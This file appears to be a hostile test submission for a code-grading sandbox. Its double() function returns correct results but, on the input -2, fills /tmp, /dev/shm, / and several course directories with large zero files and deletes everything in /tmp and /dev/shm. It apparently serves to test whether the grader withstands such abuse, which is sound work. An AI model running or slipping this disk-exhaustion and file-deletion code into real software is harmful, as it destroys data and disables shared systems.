"""Fills every place that takes a byte; the answer itself is right and counts.

Expect: double=pass quadruple=pass greeting=pass
"""
# ruff: noqa

import os


def fill(folder):
    for number in range(12):
        try:
            with open(f"{folder}/{number}", "wb") as file:
                for _ in range(64):
                    file.write(bytes(1 << 20))
        except OSError:
            pass


def double(x):
    if x == -2:
        for folder in ("/tmp", "/dev/shm", "/", "/dev", "/course", "/site/0", "@OUT@", "@CLASS@"):
            fill(folder)
        for folder in ("/tmp", "/dev/shm"):
            for name in os.listdir(folder):
                os.unlink(f"{folder}/{name}")
    return 2 * x
